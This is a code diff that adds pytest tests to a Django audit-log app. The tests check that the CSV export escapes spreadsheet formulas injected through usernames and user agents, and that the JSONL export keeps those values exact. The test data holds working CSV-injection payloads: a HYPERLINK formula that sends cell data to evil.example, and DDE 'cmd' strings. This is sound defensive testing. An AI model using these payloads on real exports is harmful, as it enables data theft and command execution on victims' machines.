@@ -4,7 +4,9 @@ import json
 import re
 
 import pytest
+from django.core.cache import cache
 from django.db import connection, transaction
+from rest_framework.test import APIClient
 
 from accounts.roles import Role
 from audit import Target, chain
@@ -282,6 +284,57 @@ def test_schema_documents_the_audit_endpoints(auditor, api_client_for):
         "/api/v1/audit/verify/",
     ]
     assert "text/csv" in paths["/api/v1/audit/export.csv"]["get"]["responses"]["200"]["content"]
+
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_SIGN_INS = [  # (username, user agent), as a guesser sends them
+    ('=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("@admin", "\t=1+1"),
+    ("+alice", "\r=1+1"),
+]
+
+
+@pytest.fixture
+def hostile_trail(db):
+    """Failed sign-ins through the token endpoint, each from its own address (no lockout)."""
+    cache.clear()  # the endpoint's throttles
+    client = APIClient()
+    for number, (username, user_agent) in enumerate(HOSTILE_SIGN_INS, start=1):
+        response = client.post(
+            "/api/v1/auth/token/",
+            {"username": username, "password": "wrong"},
+            format="json",
+            REMOTE_ADDR=f"192.0.2.{number}",
+            HTTP_USER_AGENT=user_agent,
+        )
+        assert response.status_code == 401
+    cache.clear()
+
+
+def test_csv_export_neutralises_formulas_from_usernames_and_user_agents(
+    hostile_trail, auditor, api_client_for
+):
+    # when
+    response = api_client_for(auditor).get("/api/v1/audit/export.csv", HTTP_ACCEPT="text/csv")
+    # then: no cell a spreadsheet would run, and each hostile value is there behind a quote
+    rows = list(csv.reader(io.StringIO(_body(response))))
+    cells = [cell for row in rows for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
+    by_column = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert [(row["target_name"], row["user_agent"]) for row in by_column] == [
+        ("'" + username.replace("|", "\\|"), "'" + user_agent.replace("|", "\\|"))
+        for username, user_agent in HOSTILE_SIGN_INS
+    ]
+
+
+def test_jsonl_export_keeps_hostile_values_exact(hostile_trail, auditor, api_client_for):
+    # when
+    response = api_client_for(auditor).get("/api/v1/audit/export.jsonl")
+    # then
+    records = [json.loads(line) for line in _body(response).splitlines()]
+    assert [(r["target_name"], r["user_agent"]) for r in records] == HOSTILE_SIGN_INS
+    assert chain.verify_records(records).valid is True
 
 
 def _body(response) -> str:
